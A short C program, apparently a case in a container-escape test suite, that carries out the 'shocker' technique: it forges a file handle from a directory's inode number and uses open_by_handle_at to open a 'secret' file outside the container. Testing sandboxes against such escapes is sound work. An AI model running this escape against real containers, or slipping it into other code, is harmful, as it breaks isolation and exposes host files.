// The handle is not asked for but made from the inode number, as shocker did.
#include "escape.h"
int main(void)
{
	struct stat st;
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	struct file_handle *h = (void *)space;
	int mount_id, dir = NEED(open(".", O_RDONLY));
	NEED(stat(env("SECRET_DIR"), &st));
	h->handle_bytes = MAX_HANDLE_SZ;
	HOST(name_to_handle_at(AT_FDCWD, ".", h, &mount_id, 0)); // for its type
	((uint32_t *)h->f_handle)[0] = st.st_ino, ((uint32_t *)h->f_handle)[1] = 0; // any generation
	see(TRY(openat(HOST(open_by_handle_at(dir, h, O_RDONLY)), "secret", O_RDONLY)));
}
